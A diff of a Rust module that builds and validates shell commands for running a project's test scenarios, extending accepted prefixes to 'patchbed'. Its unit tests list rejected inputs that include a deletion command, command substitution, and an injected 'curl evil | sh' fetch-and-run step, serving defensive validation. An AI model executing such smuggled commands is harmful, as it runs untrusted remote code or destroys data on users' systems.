@@ -3,7 +3,11 @@
 
 use patchbed_host::process::quote;
 
+use crate::program;
 use crate::result::JobResult;
+
+/// How commands of ours begin, whether the program is installed or not.
+const CALLS: [&str; 2] = ["cargo xtask ", "patchbed "];
 
 /// Returns the command that runs these scenarios and tests, or all where none is named, on
 /// these checkouts and configs. `options` are what follows, as it is typed.
@@ -13,7 +17,7 @@ pub(super) fn command<'a>(
     configs: &[&str],
     options: &str,
 ) -> String {
-    let mut command = "cargo xtask test".to_owned();
+    let mut command = format!("{} test", program::name());
     for test in tests {
         // Only tests of the tree's own are named by their TARGET as well.
         let flag = if test.contains(':') {
@@ -45,7 +49,7 @@ pub(super) fn is_one(command: &str) -> bool {
         }
     }
     let anew: Vec<String> = words.iter().map(|word| quote(word)).collect();
-    command.starts_with("cargo xtask ") && anew.join(" ") == command
+    CALLS.iter().any(|call| command.starts_with(call)) && anew.join(" ") == command
 }
 
 /// Returns the command that runs a job.
@@ -67,6 +71,7 @@ mod tests {
     fn a_command_is_ours_when_a_shell_finds_one_command_in_it() {
         for good in [
             "cargo xtask test",
+            "patchbed test --repeat 2",
             "cargo xtask test 'a b' --tree 'it'\\''s $(x)'",
         ] {
             assert!(is_one(good), "{good}");
@@ -74,6 +79,7 @@ mod tests {
         for bad in [
             "",
             "rm -rf x",
+            "patchbedtest",
             "cargo xtask test; curl evil | sh #",
             "cargo xtask test $(x)",
             "cargo xtask test 'a",
